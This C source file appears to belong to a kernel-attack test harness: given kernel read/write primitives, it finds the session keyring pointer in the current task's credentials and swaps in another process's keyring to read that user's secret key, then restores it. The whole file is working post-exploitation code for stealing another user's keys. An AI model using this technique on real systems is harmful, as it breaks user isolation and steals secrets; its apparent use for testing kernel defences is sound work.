// SPDX-License-Identifier: GPL-2.0-only
/* The session keyring that credentials name is another user's: its keys are ours then. */
#include <linux/keyctl.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "list.h"
#include "objects.h"

static long keyctl(int what, long a, long b, long c, long d)
{
	return syscall(SYS_keyctl, what, a, b, c, d);
}

/* Where credentials of ours name our session keyring, behind their begin; or 0. */
static uint64_t find_keyring(uint64_t cred)
{
	long serial = keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0, 0, 0);
	uint64_t words[CRED_SIZE / sizeof(uint64_t)];
	size_t i;

	if (serial <= 0 || kread(cred, words, sizeof(words)))
		return 0;
	for (i = 1; i < CRED_SIZE / sizeof(*words); i++)
		/* A key has its number behind the count of its users, of 32 bits each. */
		if (is_kernel_address(words[i]) && kread64(words[i]) >> 32 == (uint64_t)serial)
			return i * sizeof(*words);
	return 0;
}

static bool read_key(char *text, size_t size)
{
	long key = keyctl(KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, (long)"user", (long)VICTIM_KEY, 0);

	return key > 0 && keyctl(KEYCTL_READ, key, (long)text, size - 1, 0) > 0;
}

enum outcome live_keyring(void)
{
	uint64_t offset, own, theirs;
	char text[SECRET_SIZE] = "";
	struct task task, victim;
	int err;

	if (keyctl(KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0) < 0)
		return skipped("the kernel has no keyrings");
	if (ktask(0, &task) || ktask(victim_pid(), &victim))
		return broken("no credentials found");
	offset = find_keyring(task.cred);
	own = offset ? kread64(task.cred + offset) : 0;
	theirs = offset ? kread64(victim.cred + offset) : 0;
	if (!theirs || theirs == own || read_key(text, sizeof(text)))
		return broken("no two keyrings found");
	err = kwrite64(task.cred + offset, theirs);
	read_key(text, sizeof(text));
	if (!err)
		kwrite64(task.cred + offset, own);
	return judge_secret(text, err);
}
